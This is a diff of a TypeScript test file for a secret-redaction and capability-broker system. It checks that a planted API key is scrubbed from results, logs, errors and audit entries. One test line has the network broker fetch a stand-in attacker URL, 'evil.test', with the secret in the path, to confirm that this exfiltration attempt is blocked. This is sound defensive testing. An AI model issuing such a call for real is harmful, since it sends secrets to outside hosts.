@@ -1,11 +1,11 @@
 import type { IncomingMessage, ServerResponse } from 'node:http';
 import { gzipSync } from 'node:zlib';
-import type { AuditEntry, BrokerReply, JsonValue } from '@mortise/contracts';
+import type { AuditEntry, CapabilityBroker, JsonValue } from '@mortise/contracts';
 import { describe, expect, it } from 'vitest';
 import { redactAudit } from '../audit/redact-audit.ts';
 import { createCapabilityBrokers } from './create-capability-brokers.ts';
 import { createRedactor } from './secrets/create-redactor.ts';
-import { subjectWith, valueOfReply } from './testing/broker-bench.ts';
+import { onBench, subjectWith, valueOfReply } from './testing/broker-bench.ts';
 import { openCountingServer } from './testing/counting-server.ts';
 
 const SECRET = 'sk_live/9f+8e7d=6c5b&4a';
@@ -90,20 +90,23 @@ async function openWorld() {
   const server = await openCountingServer(echo);
   const entries: AuditEntry[] = [];
   const { redact, redactJson } = createRedactor([SECRET]);
-  const brokers = createCapabilityBrokers({
-    audit: redactAudit({ record: (entry) => entries.push(entry) }, redact),
-    now: () => 0,
+  const audit = redactAudit({ record: (entry) => entries.push(entry) }, redact);
+  const made = createCapabilityBrokers({
     secrets: { read: async () => SECRET },
     network: { resolver: { resolve: async () => ['127.0.0.1'] } },
   });
+  // A host that has every part has every broker.
+  const brokers = {
+    network: onBench('network', made.network as CapabilityBroker<'network'>, { audit }),
+    secrets: onBench('secrets', made.secrets as CapabilityBroker<'secrets'>, { audit }),
+    fs_reach: onBench('fs_reach', made.fs_reach as CapabilityBroker<'fs_reach'>, { audit }),
+  };
   const origin = `http://echo.test:${server.port}`;
   const network = subjectWith({ allowedHosts: [origin], allowPrivate: ['127.0.0.1'] });
   const secrets = subjectWith([{ name: 'KEY', hosts: [origin] }]);
-  const placeholder = valueOfReply(
-    (await brokers.secrets?.handle('get', ['KEY'], secrets)) as BrokerReply,
-  );
+  const placeholder = valueOfReply(await brokers.secrets.handle('get', ['KEY'], secrets));
   const fetch = (path: string, key: JsonValue = placeholder) =>
-    brokers.network?.handle(
+    brokers.network.handle(
       'fetch',
       { url: `${origin}${path}`, init: { headers: { 'x-key': key } } },
       network,
@@ -127,12 +130,8 @@ describe('a secret planted in every place (S-6, S-7, S-11)', () => {
   it('is taken out of results, logs and errors, wherever a tool puts it', async () => {
     const { server, redactJson, brokers, entries, secrets } = await openWorld();
     await using _server = server;
-    const revealed = valueOfReply(
-      (await brokers.secrets?.handle('reveal', ['KEY'], {
-        ...secrets,
-        grant: [{ name: 'KEY', reveal: true }],
-      })) as BrokerReply,
-    );
+    const revealing = { ...secrets, grant: [{ name: 'KEY', reveal: true }] };
+    const revealed = valueOfReply(await brokers.secrets.handle('reveal', ['KEY'], revealing));
     expect(revealed).toBe(SECRET);
     const result = redactJson({
       content: [{ type: 'text', text: `the key is ${SECRET}` }],
@@ -141,8 +140,8 @@ describe('a secret planted in every place (S-6, S-7, S-11)', () => {
       logs: PLANTS.map((plant) => `level=info ${plant} end`),
       nested: JSON.stringify({ text: JSON.stringify({ key: SECRET }) }),
     });
-    await brokers.fs_reach?.handle('read', [`/x/${SECRET}`], subjectWith({ read: ['/tmp'] }));
-    await brokers.network?.handle(
+    await brokers.fs_reach.handle('read', [`/x/${SECRET}`], subjectWith({ read: ['/tmp'] }));
+    await brokers.network.handle(
       'fetch',
       { url: `https://evil.test/${SECRET}` },
       subjectWith({ allowedHosts: [] }),
